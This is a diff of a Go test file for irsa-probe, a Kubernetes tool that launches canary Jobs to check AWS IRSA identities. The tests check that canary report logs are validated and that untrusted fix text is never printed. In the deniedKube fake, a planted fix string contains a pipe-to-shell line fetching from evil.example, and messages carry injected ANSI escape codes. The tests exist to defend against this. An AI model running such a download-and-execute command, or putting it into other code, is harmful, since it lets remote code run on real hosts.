@@ -8,6 +8,8 @@ import (
 	"sync"
 	"testing"
 	"time"
+
+	"github.com/irsa-probe/irsa-probe/probe/shellcmd"
 )
 
 // fakeKube runs every canary for polls polls, then reports OK; it counts
@@ -22,12 +24,12 @@ type fakeKube struct {
 	deleted   []string
 }
 
-func (f *fakeKube) CreateJob(_ context.Context, ns string, job []byte) error {
+func (f *fakeKube) CreateJob(_ context.Context, ns string, job []byte) (string, error) {
 	var j struct {
 		Metadata struct{ Name string } `json:"metadata"`
 	}
 	if err := json.Unmarshal(job, &j); err != nil {
-		return err
+		return "", err
 	}
 	f.mu.Lock()
 	defer f.mu.Unlock()
@@ -39,8 +41,11 @@ func (f *fakeKube) CreateJob(_ context.Context, ns string, job []byte) error {
 		}
 	}
 	f.maxActive = max(f.maxActive, active)
-	return nil
+	return jobUID(j.Metadata.Name), nil
 }
+
+// jobUID is the uid fakeKube gives a Job.
+func jobUID(job string) string { return "uid-" + job }
 
 func (f *fakeKube) CanaryPods(context.Context, string) ([]Pod, error) {
 	f.mu.Lock()
@@ -51,7 +56,9 @@ func (f *fakeKube) CanaryPods(context.Context, string) ([]Pod, error) {
 			continue
 		}
 		f.age[name] = age + 1
-		p := Pod{Metadata: Meta{Name: name + "-x", Namespace: f.ns[name], Labels: map[string]string{LabelCanary: name}}}
+		yes := true
+		p := Pod{Metadata: Meta{Name: name + "-x", Namespace: f.ns[name], Labels: map[string]string{LabelCanary: name},
+			OwnerReferences: []OwnerRef{{Kind: "Job", Name: name, UID: jobUID(name), Controller: &yes}}}}
 		if age+1 >= f.polls {
 			cs := ContainerStatus{Name: canaryContainer}
 			cs.State.Terminated = &struct {
@@ -108,7 +115,7 @@ func TestProveParallel(t *testing.T) {
 // TestReadCanaryLog: the report is found among stderr lines; exit codes
 // map to verdicts; no report is an error that quotes the log.
 func TestReadCanaryLog(t *testing.T) {
-	report := `{"ok":false,"identity":null,"mechanism":"irsa","checks":[{"name":"assume-role"}],"findings":[{"code":"sts-throttled","severity":"indeterminate","message":"m","fix":"f"},{"code":"token-expiring","severity":"warning","message":"w","fix":""}]}`
+	report := `{"ok":false,"identity":null,"mechanism":"irsa","checks":[{"name":"assume-role"}],"findings":[{"code":"sts-throttled","severity":"indeterminate","message":"m","fix":"f"},{"code":"token-expiring-soon","severity":"warning","message":"w","fix":""}]}`
 	for _, c := range []struct {
 		log           string
 		exit          int
@@ -118,22 +125,32 @@ func TestReadCanaryLog(t *testing.T) {
 		{report, 1, CanaryBroken, "sts-throttled"},
 		{`{"not":"a report"}` + "\n\x1b[31mpanic", 2, CanaryError, "canary-no-report"},
 		{"", 137, CanaryError, "canary-no-report"},
+		// A report is data: a code or a severity the catalog lacks is not
+		// passed on, and exit 0 does not make it ok.
+		{`{"ok":true,"checks":[],"findings":[{"code":"all-good\u001b[2K","severity":"warning","message":"m"}]}`, 0, CanaryError, "canary-report-invalid"},
+		{`{"ok":true,"checks":[],"findings":[{"code":"token-expired","severity":"fine","message":"m"}]}`, 1, CanaryBroken, "canary-report-invalid"},
 	} {
 		got := ReadCanaryLog([]byte(c.log), c.exit)
 		if got.Verdict != c.verdict || got.Code != c.code || *got.ExitCode != c.exit {
 			t.Errorf("%q exit %d: %+v", c.log, c.exit, got)
 		}
+		if shellcmd.Check(got.Message) != nil || got.Fix != "" {
+			t.Errorf("%q: message %q holds a control character, or fix %q came from the log", c.log, got.Message, got.Fix)
+		}
 	}
 }
 
-// TestJobName: within 52 characters, distinct for long names that share a prefix.
+// TestJobName: within 52 characters, distinct for long names that share
+// a prefix and for names the character mapping merges.
 func TestJobName(t *testing.T) {
 	long := "payments-reconciliation-worker-for-the-eu-region-"
-	a, b := JobName("a1b2c3", long+"one"), JobName("a1b2c3", long+"two")
-	if len(a) > 52 || len(b) > 52 || a == b {
-		t.Errorf("%q %q", a, b)
+	for _, pair := range [][2]string{{long + "one", long + "two"}, {"a.b", "a-b"}, {"A", "a"}} {
+		a, b := JobName("a1b2c3", pair[0]), JobName("a1b2c3", pair[1])
+		if len(a) > 52 || len(b) > 52 || a == b || !validName(a) || !validName(b) {
+			t.Errorf("%q -> %q, %q -> %q", pair[0], a, pair[1], b)
+		}
 	}
-	if got := JobName("a1b2c3", "billing.api"); got != "irsa-probe-a1b2c3-billing-api" {
+	if got := JobName("a1b2c3", "billing.api"); got != "irsa-probe-a1b2c3-billing-api-11cf44c2" {
 		t.Errorf("%q", got)
 	}
 }
@@ -166,32 +183,40 @@ func TestProvePodsUnreadable(t *testing.T) {
 }
 
 // deniedKube is fakeKube whose canaries report trust-policy-denied with
-// check's fix, which names the canary's own pod (the token's pod claim).
+// a fix of their own, which must never be printed.
 type deniedKube struct{ *fakeKube }
 
 func (d deniedKube) Logs(ctx context.Context, ns, pod, c string) ([]byte, error) {
 	if _, err := d.fakeKube.Logs(ctx, ns, pod, c); err != nil {
 		return nil, err
 	}
-	fix := "or pipe the first half into kubectl exec -i -n " + ns + " " + pod + " -c irsa-probe -- irsa-probe trust-policy --explain -"
+	fix := "or pipe the first half into kubectl exec -i -n " + ns + " " + pod + " -c irsa-probe -- irsa-probe trust-policy --explain -\ncurl -s https://evil.example/x | sh"
 	return json.Marshal(map[string]any{"ok": false, "mechanism": "irsa", "checks": []any{},
-		"findings": []any{map[string]string{"code": "trust-policy-denied", "severity": "error", "message": "m", "fix": fix}}})
+		"findings": []any{map[string]string{"code": "trust-policy-denied", "severity": "error", "message": "m\x1b[2K", "fix": fix}}})
 }
 
-// TestProveFixForgetsCanaryPod: the canary's pod is deleted with its Job,
-// so a fix must not name it (found on the real cluster, test/e2e).
-func TestProveFixForgetsCanaryPod(t *testing.T) {
+// TestProveFixFromOwnCatalog: the fix printed for a canary's report is
+// the plugin's catalog's, filled with what the plugin knows; the log's
+// fix is never printed, and the canary's pod (deleted with its Job) is
+// not named.
+func TestProveFixFromOwnCatalog(t *testing.T) {
 	k := deniedKube{&fakeKube{polls: 1, age: map[string]int{}, ns: map[string]string{}, done: map[string]bool{}}}
-	id := &Identity{Namespace: "payments", ServiceAccount: "ledger", RoleARN: roleA}
+	id := &Identity{Namespace: "payments", ServiceAccount: "ledger", RoleARN: roleA, Mechanism: MechanismIRSA}
 	o := ProveOptions{CanaryOptions: CanaryOptions{RunID: "abc123", Image: "i", Timeout: time.Minute}, Parallel: 1, Poll: time.Millisecond}
 	if err := Prove(context.Background(), k, []*Identity{id}, o); err != nil {
 		t.Fatal(err)
 	}
 	c := id.Canary
-	if c == nil || c.Code != "trust-policy-denied" {
-		t.Fatalf("canary %+v, want trust-policy-denied", c)
+	if c == nil || c.Code != "trust-policy-denied" || c.Verdict != CanaryOK {
+		t.Fatalf("canary %+v, want trust-policy-denied, ok (the fake exits 0)", c)
 	}
-	if strings.Contains(c.Fix, c.Job+"-x") || !strings.Contains(c.Fix, "kubectl exec -i -n payments POD -c irsa-probe") {
-		t.Errorf("fix %q names the canary's pod %s-x, which is deleted; want POD", c.Fix, c.Job)
+	if strings.Contains(c.Fix, "evil.example") || strings.Contains(c.Fix, c.Job+"-x") {
+		t.Errorf("fix %q forwards the log's", c.Fix)
+	}
+	if !strings.Contains(c.Fix, "kubectl exec -i -n payments POD -c irsa-probe") || !strings.Contains(c.Fix, "--role-name billing-api") {
+		t.Errorf("fix %q is not the catalog's for payments/ledger and %s", c.Fix, roleA)
+	}
+	if strings.ContainsRune(c.Message, 0x1b) {
+		t.Errorf("message %q holds ESC", c.Message)
 	}
 }
